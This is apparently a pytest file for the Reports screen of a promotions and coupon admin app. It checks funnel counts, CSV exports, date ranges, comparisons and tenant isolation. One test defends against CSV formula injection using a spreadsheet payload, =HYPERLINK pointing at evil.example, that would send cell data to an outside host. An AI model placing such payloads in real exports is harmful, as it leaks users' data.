"""The Reports screen: after scripted traffic through the API (assign, fetch, redeem by API and by receipt,
return by a receipt), every number of the funnel, the views and their CSV equals what was done and what the API's
own report says; ranges, comparison, roles and tenant isolation. SQLite and PostgreSQL (the local day is SQL that
differs between the two)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

from tests.server.admin._helpers import assign, contact, promotion, text_of
from tests.server.admin.conftest import Admin
from tests.server.receipt.conftest import item, receipt_body


def _traffic(admin: Admin) -> dict[str, Any]:
    """10 Mar (Stockholm): three assignments. 11 Mar: a fourth; two contacts fetch; one redeems at the till (POS,
    S1), one by a receipt (S2) that is then returned, one on the web shop (ECOM, WEB)."""
    api = admin.api
    pid = promotion(api, "Spring", start="2026-03-01", end="2026-03-31", channels=("POS", "ECOM"))
    emails = [f"r{i}@example.com" for i in range(4)]
    cids = [contact(api, email=e) for e in emails]
    coupons = [assign(api, c, pid) for c in cids[:3]]
    api.clock.advance(timedelta(days=1))  # 11 Mar 13:00 Stockholm
    coupons.append(assign(api, cids[3], pid))
    for c in cids[:2]:
        assert (
            api.get(f"/api/v2/contacts/{c}/promotions", params={"redemptionChannelType": "POS"}).status_code
            == 200
        )
    r = api.post(f"/api/v2/promotions/codes/{coupons[0]}/redeem",
                 json={"redemptionChannel": "POS", "storeExternalId": "S1"})  # fmt: skip
    assert r.status_code == 200, r.text
    sale = receipt_body(key=emails[1], used=[{"couponId": coupons[1]}], store="S2",
                        created="2026-03-11T12:30:00+01:00")  # fmt: skip
    assert api.post("/api/v2/receipts", json=sale).status_code == 200
    ret = receipt_body(key=emails[1], store="S2", created="2026-03-11T12:45:00+01:00",
                       items=[item("100.00", sku="A", qty=-1, type_="RETURN")],
                       originalUniqueReceiptId=sale["uniqueReceiptId"])  # fmt: skip
    assert api.post("/api/v2/receipts", json=ret).status_code == 200
    r = api.post(f"/api/v2/promotions/codes/{coupons[2]}/redeem",
                 json={"redemptionChannel": "ECOM", "storeExternalId": "WEB"})  # fmt: skip
    assert r.status_code == 200, r.text
    report = api.get(f"/api/v2/reports/promotions/{pid}").json()
    return {"pid": pid, "api": report}


def _csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    return list(csv.DictReader(io.StringIO(response.text)))


def _figure(html: str, name: str) -> int:
    part = html.split(f'data-figure="{name}">')[1]
    return int(part.split("<")[0].replace(",", ""))


def test_the_funnel_views_and_csv_equal_the_traffic_and_the_api(admin: Admin) -> None:
    t = _traffic(admin)
    pid, api = t["pid"], t["api"]
    assert (api["assigned"], api["shown"], api["redeemed"], api["returns"]) == (4, 2, 3, 1)
    viewer = admin.browser("viewer")
    page = viewer.get(f"/admin/reports/{pid}")
    assert page.status_code == 200
    html = page.text
    assert [_figure(html, f) for f in ("assigned", "shown", "redeemed", "returned")] == [4, 2, 3, 1]
    text = text_of(html)
    assert "50.0 % of assigned" in text and "75.0 % of assigned" in text and "33.3 % of redeemed" in text
    assert "Data as of 2026-03-11 13:00 Europe/Stockholm" in text
    assert html.count("Download CSV") >= 4 and html.count('<svg id="chart-') == 3

    funnel = _csv(viewer.get(f"/admin/reports/{pid}/funnel.csv"))
    assert [
        (r["assigned"], r["shown"], r["redeemed"], r["returned"], r["redemptionRate"]) for r in funnel
    ] == [("4", "2", "3", "1", str(api["redemptionRate"]))]
    assert funnel[0]["asOf"] == "2026-03-11T12:00:00+00:00"
    days = {r["date"]: r for r in _csv(viewer.get(f"/admin/reports/{pid}/by-day.csv"))}
    assert len(days) == 30 and max(days) == "2026-03-11"
    assert {k: v for k, v in days["2026-03-10"].items() if k != "asOf"} == {
        "date": "2026-03-10", "assigned": "3", "shown": "0", "redeemed": "0", "returned": "0"}  # fmt: skip
    assert {k: v for k, v in days["2026-03-11"].items() if k != "asOf"} == {
        "date": "2026-03-11", "assigned": "1", "shown": "2", "redeemed": "3", "returned": "1"}  # fmt: skip
    assert sum(int(r["assigned"]) for r in days.values()) == api["assigned"]
    channels = {
        r["channel"]: int(r["redeemed"]) for r in _csv(viewer.get(f"/admin/reports/{pid}/by-channel.csv"))
    }
    assert channels == {c["channel"]: c["redeemed"] for c in api["byChannel"]} == {"POS": 2, "ECOM": 1}
    stores = {r["storeExternalId"]: (int(r["redeemed"]), int(r["receipts"]), int(r["returned"]))
              for r in _csv(viewer.get(f"/admin/reports/{pid}/by-store.csv"))}  # fmt: skip
    assert stores == {"S1": (1, 0, 0), "S2": (1, 1, 1), "WEB": (1, 0, 0)}
    assert stores == {
        s["storeExternalId"]: (s["redeemed"], s["receipts"], s["returns"]) for s in api["byStore"]
    }
    # The tables on the page carry the same numbers.
    day_table = text_of(html.split('id="table-day"')[1].split("</table>")[0])
    assert "2026-03-11 1 2 3 1" in day_table and "2026-03-10 3 0 0 0" in day_table
    # The chart per day has a line per column of that table, Returned included, each named in the legend.
    chart = html.split('<svg id="chart-day"')[1].split("</svg>")[0]
    assert chart.count("<polyline") == 4
    for label in ("Assigned", "Shown", "Redeemed", "Returned"):
        assert f">{label}</text>" in chart, label
    assert (
        "<title>Returned, 2026-03-11: 1</title>" in chart
        and "<title>Returned, 2026-03-10: 0</title>" in chart
    )


def test_a_chosen_range_cuts_the_views_not_the_funnel(admin: Admin) -> None:
    pid = _traffic(admin)["pid"]
    viewer = admin.browser("viewer")
    page = viewer.get(f"/admin/reports/{pid}", params={"from": "2026-03-10", "to": "2026-03-10"})
    assert _figure(page.text, "redeemed") == 3
    days = _csv(
        viewer.get(f"/admin/reports/{pid}/by-day.csv", params={"from": "2026-03-10", "to": "2026-03-10"})
    )
    assert [(r["date"], r["assigned"], r["redeemed"]) for r in days] == [("2026-03-10", "3", "0")]
    assert _csv(viewer.get(f"/admin/reports/{pid}/by-store.csv", params={"from": "2026-03-10", "to": "2026-03-10"})) == []  # fmt: skip
    # The picker goes to the report with its range; a second promotion goes to the comparison.
    r = viewer.get("/admin/reports", params={"promotion": pid, "from": "2026-03-05", "to": "2026-03-06"},
                   follow_redirects=False)  # fmt: skip
    assert (
        r.status_code == 303
        and r.headers["location"] == f"/admin/reports/{pid}?from=2026-03-05&to=2026-03-06"
    )


def test_two_promotions_side_by_side(admin: Admin) -> None:
    pid = _traffic(admin)["pid"]
    other = promotion(admin.api, "Autumn", start="2026-03-01", end="2026-03-31")
    assign(admin.api, contact(admin.api, email="solo@example.com"), other)
    viewer = admin.browser("viewer")
    r = viewer.get("/admin/reports", params={"promotion": pid, "compare": other}, follow_redirects=False)
    assert r.status_code == 303
    page = viewer.get(r.headers["location"])
    assert page.status_code == 200
    table = text_of(page.text.split('id="table-compare"')[1].split("</table>")[0])
    assert "Assigned 4 1" in table and "Redeemed 3 (75.0 % of assigned) 0" in table
    # Per day: assigned, shown, redeemed and returned of A, then of B; both counted now, so one as-of time.
    days = text_of(page.text.split('id="table-compare-day"')[1].split("</table>")[0])
    assert "2026-03-10 3 0 0 0 0 0 0 0" in days and "2026-03-11 1 2 3 1 1 0 0 0" in days
    text = text_of(page.text)
    assert "Data as of 2026-03-11 13:00 Europe/Stockholm" in text and "for A" not in text
    rows = _csv(viewer.get("/admin/reports/compare.csv", params={"a": pid, "b": other}))
    assert [(r["figure"], *list(r.values())[1:3]) for r in rows] == [
        ("assigned", "4", "1"), ("shown", "2", "0"), ("redeemed", "3", "0"), ("returned", "1", "0")]  # fmt: skip


def test_reports_are_read_by_every_role_and_only_in_their_tenant(admin: Admin) -> None:
    pid = promotion(admin.api, "Mine")
    other = admin.api.new_tenant()
    theirs = promotion(
        admin.api.__class__(admin.api.client, admin.api.clock, other, admin.api.settings), "Theirs"
    )
    for role in ("viewer", "marketer", "admin"):
        b = admin.browser(role)
        assert b.get("/admin/reports").status_code == 200
        assert b.get(f"/admin/reports/{pid}").status_code == 200
    b = admin.browser("viewer")
    for path in (f"/admin/reports/{theirs}", f"/admin/reports/{theirs}/funnel.csv",
                 f"/admin/reports/compare?a={pid}&b={theirs}", f"/admin/reports/{pid}/secrets.csv",
                 "/admin/reports/not-a-guid"):  # fmt: skip
        assert b.get(path).status_code == 404, path
    home = b.get("/admin/reports").text
    assert "Mine" in home and "Theirs" not in home
    assert admin.api.client.get(f"/admin/reports/{pid}", follow_redirects=False).status_code == 303


def test_report_csvs_keep_names_that_look_like_formulas_inert(admin: Admin) -> None:
    """Any API key names promotions and stores: in every report CSV (the screen's and the API's) a name a
    spreadsheet would run as a formula starts with ' instead; numbers, negative ones too, stay numbers."""
    api = admin.api
    name, store = '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+2"
    pid = promotion(api, name, start="2026-03-01", end="2026-03-31")
    cid = contact(api, email="f@example.com")
    coupon = assign(api, cid, pid)
    assert api.put(f"/api/v2/stores/{store}", json={"name": "@SUM(A1:A9)"}).status_code in (200, 201)
    r = api.post(
        f"/api/v2/promotions/codes/{coupon}/redeem",
        json={"redemptionChannel": "POS", "storeExternalId": store},
    )
    assert r.status_code == 200, r.text
    other = promotion(api, "-1+1")
    viewer = admin.browser("viewer")
    files = [viewer.get(f"/admin/reports/{pid}/{view}.csv") for view in ("funnel", "by-store")]
    files.append(viewer.get("/admin/reports/compare.csv", params={"a": pid, "b": other}))
    files.append(api.get(f"/api/v2/reports/promotions/{pid}", params={"format": "csv"}))
    for response in files:
        cells = [c for row in csv.reader(io.StringIO(response.text)) for c in row]
        live = [
            c for c in cells if c[:1] in ("=", "+", "@", "-") and not c.lstrip("-").replace(".", "").isdigit()
        ]
        assert cells and live == [], live
    assert f"'{name}" in files[0].text.replace('""', '"') and f"'{store}" in files[1].text
    assert "'@SUM(A1:A9)" in files[1].text and "'-1+1" in files[2].text


def test_returns_are_a_share_of_every_redemption_made_also_those_given_back(admin: Admin) -> None:
    """Redeemed counts what is redeemed now; a redemption given back (reactivated) leaves it but was made: the
    return rate is of all redemptions made, and the page says how many were given back."""
    api = admin.api
    pid = promotion(api, "Given back", start="2026-03-01", end="2026-03-31")
    emails = ["g1@example.com", "g2@example.com"]
    coupons = [assign(api, contact(api, email=e), pid) for e in emails]
    api.clock.advance(timedelta(hours=1))  # 14:00 Stockholm: the sales below come after the assignments
    sales = []
    for email, coupon in zip(emails, coupons, strict=True):
        sale = receipt_body(
            key=email, used=[{"couponId": coupon}], store="S1", created="2026-03-10T13:30:00+01:00"
        )
        r = api.post("/api/v2/receipts", json=sale)
        assert r.status_code == 200 and r.json()["warnings"] == [], r.text
        sales.append(sale)
    back = receipt_body(key=emails[0], store="S1", created="2026-03-10T13:45:00+01:00",
                        items=[item("100.00", sku="A", qty=-1, type_="RETURN")],
                        originalUniqueReceiptId=sales[0]["uniqueReceiptId"])  # fmt: skip
    assert api.post("/api/v2/receipts", json=back).status_code == 200
    r = api.post(f"/api/v2/promotions/codes/{coupons[1]}/reactivate")
    assert r.status_code == 200, r.text
    report = api.get(f"/api/v2/reports/promotions/{pid}").json()
    assert (report["redeemed"], report["reactivated"], report["returns"]) == (1, 1, 1)
    viewer = admin.browser("viewer")
    html = viewer.get(f"/admin/reports/{pid}").text
    text = text_of(html)
    assert [_figure(html, f) for f in ("redeemed", "returned")] == [1, 1]
    assert "50.0 % of redeemed" in text
    assert "Reactivated 1: redemptions given back since" in text and "all 2 redemptions made" in text
    (row,) = _csv(viewer.get(f"/admin/reports/{pid}/funnel.csv"))
    assert row["returnRate"] == "0.5"


def test_a_range_the_page_cannot_show_as_asked_is_named_not_changed_silently(admin: Admin) -> None:
    pid = promotion(admin.api, "Ranges")
    viewer = admin.browser("viewer")

    def note(**params: str) -> str:
        page = viewer.get(f"/admin/reports/{pid}", params=params)
        assert page.status_code == 200
        part = page.text.split('id="range-note">', 1)
        return text_of(part[1].split("</p>", 1)[0]) if len(part) == 2 else ""

    assert note(**{"from": "2026-03-01", "to": "2026-03-10"}) == ""
    assert note(**{"from": "2026-03-10", "to": "2026-03-01"}) == (
        "Showing 2026-03-01 to 2026-03-10: From came after To, so the two were swapped."
    )
    assert "“soon” is not a date (YYYY-MM-DD), so it was left out" in note(**{"from": "soon"})
    assert "a range is at most 366 days, so it was shortened" in note(
        **{"from": "2020-01-01", "to": "2026-03-10"}
    )
